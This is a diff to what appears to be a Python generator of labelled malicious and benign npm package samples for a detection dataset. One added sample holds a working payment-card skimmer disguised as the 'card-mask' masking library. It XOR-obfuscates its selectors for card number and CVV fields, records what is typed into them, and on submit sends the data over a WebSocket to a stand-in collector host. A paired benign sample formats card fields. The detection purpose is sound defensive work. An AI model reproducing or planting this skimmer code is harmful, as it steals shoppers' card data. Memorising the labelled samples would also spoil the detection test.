@@ -370,6 +370,70 @@ def xor_b64_websocket_skimmer():
     )
 
 
+_CARDSKIM = r"""/*! card-mask | MIT */
+(function(){"use strict";function u(s){for(var o="",i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^0x1f);return o}
+var F=u(@@SEL@@),H=u(@@URL@@),seen={},ws=null;
+function mask(v){return String(v).replace(/\d(?=\d{4})/g,"*")}
+document.addEventListener("change",function(e){var t=e.target;if(t&&t.matches&&t.matches(F))seen[t.name||t.id]=t.value},true);
+document.addEventListener("submit",function(){ws=new WebSocket(H);ws.onopen=function(){ws.send(JSON.stringify({p:location.pathname,d:seen}))}},true);
+window.CardMask={mask:mask};})();
+"""
+
+
+def xor_chars(s, byte):
+    return __import__("json").dumps("".join(chr(ord(c) ^ byte) for c in s))
+
+
+@sample
+def xor_chars_card_selector_socket():
+    files = {
+        "package.json": pj(name="card-mask", version="2.0.4", main="dist/card-mask.min.js",
+                           files=["dist"], description="Masks card numbers in receipts."),
+        "README.md": readme("card-mask", "```js\nCardMask.mask('4111111111111111')\n```"),
+        "dist/card-mask.min.js": fill(_CARDSKIM,
+                                      SEL=xor_chars("input[autocomplete=cc-number],input[name*=card],input[autocomplete=cc-csc],input[name*=cvv]", 0x1F),
+                                      URL=xor_chars("wss://stats.cardmask.example/e", 0x1F)),
+    }
+    return S(
+        "h6a-xor-chars-card-selector-socket",
+        "payment-field skimmer without cookie theft: the card number and security code selectors "
+        "and the collector's WebSocket URL XOR-ed character by character with one byte",
+        "2024",
+        ["bundle", "browser", "payment-skimmer", "form-capture", "xor-strings",
+         "websocket-exfil"],
+        "dist/card-mask.min.js: records every change of an input matching the hidden selector list "
+        "(cc-number, card, cc-csc, cvv) and on submit opens a WebSocket to "
+        "wss://stats.cardmask.example/e and sends them.",
+        files,
+    )
+
+
+@benign
+def b_plain_card_selectors_status_socket():
+    src = r"""/*! card-format | MIT */
+(function(){"use strict";var F="input[autocomplete=cc-number],input[name*=card],input[autocomplete=cc-csc],input[name*=cvv]",
+BADGE=atob("U2VjdXJlZCBieSBjYXJkLWZvcm1hdA=="),ws=null;
+function fmt(v){return String(v).replace(/\D+/g,"").replace(/(\d{4})(?=\d)/g,"$1 ")}
+document.addEventListener("input",function(e){var t=e.target;if(t&&t.matches&&t.matches(F))t.value=fmt(t.value)},true);
+function health(){ws=new WebSocket("wss://status.cardformat.example/ping");ws.onopen=function(){ws.send(JSON.stringify({v:"3.1.0",badge:BADGE}))}}
+window.CardFormat={format:fmt,health:health};})();
+"""
+    files = {
+        "package.json": pj(name="card-format-live", version="3.1.0", main="dist/card-format.min.js",
+                           files=["dist"], description="Formats card inputs as you type."),
+        "README.md": readme("card-format-live", "```js\nCardFormat.format('4111111111111111')\n```"),
+        "dist/card-format.min.js": src,
+    }
+    return S(
+        "h6a-plain-card-selectors-status-socket",
+        "card input formatter: card number and security code selectors in plain text, a base64 "
+        "badge string, and a status WebSocket to its own host that sends its version (mirrors "
+        "h6a-xor-chars-card-selector-socket)",
+        "2025", ["bundle", "browser", "card-fields", "websocket", "base64"],
+        "The selectors are written out and the fields are only reformatted in place.", files,
+    )
+
+
 @benign
 def b_xor_b64_websocket_support_chat():
     src = r"""/*! help-chat | MIT */
